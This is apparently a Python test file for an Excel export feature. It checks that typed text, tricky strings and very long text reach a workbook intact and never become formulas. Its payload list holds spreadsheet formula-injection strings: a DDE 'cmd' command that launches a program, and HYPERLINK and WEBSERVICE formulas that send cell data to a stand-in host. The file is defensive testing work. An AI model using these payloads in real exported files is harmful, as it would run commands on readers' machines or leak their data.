"""What people type reaches the workbook whole and stays text."""

from dataclasses import replace
from itertools import product
from math import ceil
from pathlib import Path

import openpyxl

from scr_appraiser.export.excel.text import LIMIT, units
from tests.builders import a_codebook, a_framework
from tests.export.collations import a_collation, saying
from tests.export.excel.books import Rows, cells, formulas, opened, rows, written

STARTS = ("=", "+", "-", "@", "\t=", "\n=", " =", "'=", "＝", "＋", "%", "|")
COMMANDS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.invalid/?"&A1;"open")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    "1+1",
    'WEBSERVICE("http://example.invalid/")',
)
PAYLOADS = [start + command for start, command in product(STARTS, COMMANDS)]
HARD = (
    "#N/A",
    "#REF!",
    "TRUE",
    "1E5",
    "2015-03-01",
    "=",
    " leading and trailing ",
    "two\nlines\n\nand\ttabs",
    "<b>&amp;</b> ]]> <![CDATA[x]]>",
    "_x000D_ literal _x005F_ escape",
    "שלום עולם, مرحبا",
    "👩‍👩‍👧 emoji 😀",
    "e\u0301 and é stay apart",
    "'quoted'",
    "x" * LIMIT,
)
TYPED = {
    "Reviews": ("Local reference", "Notification reference of the scrutiny body"),
    "Children": ("Review", "Child label"),
    "Themes": ("Pages or paragraphs",),
    "Recommendations": ("Number in report", "Short paraphrase"),
    "Judgements": ("Review", "Comment", "Condition for not applicable", "Missing document", "Appraiser's staff code"),
    "Evidence": ("Page label", "Quote", "Searched for"),
    "Documents": ("Title",),
    "Domain judgements": ("Reason", "Strengths", "Weaknesses"),
}
"""Columns that show what was typed and nothing else."""


def read(texts: list[str], tmp_path: Path) -> dict[str, Rows]:
    """The sheets of a workbook in which each text was typed everywhere."""
    book = opened(written(saying(*texts), tmp_path))
    assert formulas(book) == []
    return {title: rows(book, title) for title in TYPED}


def test_sixty_payloads_in_every_field_make_no_formula(tmp_path: Path) -> None:
    assert len(PAYLOADS) == 60
    sheets = read(PAYLOADS, tmp_path)
    for title, columns in TYPED.items():
        for column in columns:
            said = [row[column] for row in sheets[title] if row[column] is not None]
            assert said == PAYLOADS, (title, column)


def test_the_check_for_formulas_finds_them() -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for payload in PAYLOADS:
        sheet.append([payload])
    assert len(formulas(book)) >= len(COMMANDS)


def test_text_that_could_be_a_formula_keeps_its_mark_when_a_person_edits_it(tmp_path: Path) -> None:
    book = opened(written(saying("=1+1", "plain"), tmp_path))
    marked = {cell.value: bool(cell.quotePrefix) for cell in cells(book) if cell.value in ("=1+1", "plain")}
    assert marked == {"=1+1": True, "plain": False}


def test_hard_text_is_read_back_as_it_was_typed(tmp_path: Path) -> None:
    sheets = read(list(HARD), tmp_path)
    for title, columns in TYPED.items():
        for column in columns:
            assert [row[column] for row in sheets[title] if row[column] is not None] == list(HARD), (title, column)


def test_control_characters_do_not_reach_the_workbook(tmp_path: Path) -> None:
    typed = "a" + "".join(map(chr, range(32))) + "\x7f\x85\ufffeb"
    sheets = read([typed], tmp_path)
    assert sheets["Judgements"][0]["Comment"] == "a\t\n\nb"


def test_text_of_any_length_is_whole_in_the_cells_beside_each_other(tmp_path: Path) -> None:
    texts = [unit * length for unit in "a😀" for length in (LIMIT - 1, LIMIT, LIMIT + 1, 100_000)]
    for text, row in zip(texts, read(texts, tmp_path)["Judgements"], strict=True):
        parts = [value for name, value in row.items() if name.startswith("Comment") and value is not None]
        assert "".join(parts) == text
        assert len(parts) == ceil(units(text) / (LIMIT - LIMIT % units(text[0])))


def test_only_a_text_that_is_too_long_gets_further_columns(tmp_path: Path) -> None:
    columns = read(["a" * LIMIT], tmp_path)["Judgements"][0]
    assert not any(name.startswith("Comment (") for name in columns)


def test_about_goes_on_in_further_lines(tmp_path: Path) -> None:
    name = "=" + "n" * LIMIT
    about = opened(written(a_collation(exported_by=name), tmp_path))["About"]
    said = [str(row[1].value) for row in about.iter_rows() if row[1].value]
    start = said.index(name[:LIMIT])
    assert "".join(said[start : start + 2]) == name


def test_hostile_definitions_make_no_formula_either(tmp_path: Path) -> None:
    payload = '=HYPERLINK("http://example.invalid/")'
    framework, codebook = a_framework(), a_codebook()
    first = framework.domains[0]
    criteria = tuple(replace(criterion, title=payload, statement=payload) for criterion in first.criteria)
    domain = replace(first, name=payload, question=payload, criteria=criteria)
    named = replace(framework, title=payload, id=payload, domains=(domain, *framework.domains[1:]))
    sections = tuple(
        replace(section, fields=tuple(replace(field, label=f"{payload}{field.label}") for field in section.fields))
        for section in codebook.sections
    )
    data = a_collation(
        frameworks={framework.hash: named},
        codebooks={codebook.hash: replace(codebook, title=payload, sections=sections)},
    )
    book = opened(written(data, tmp_path))
    assert formulas(book) == []
    assert payload in {cell.value for cell in cells(book)}
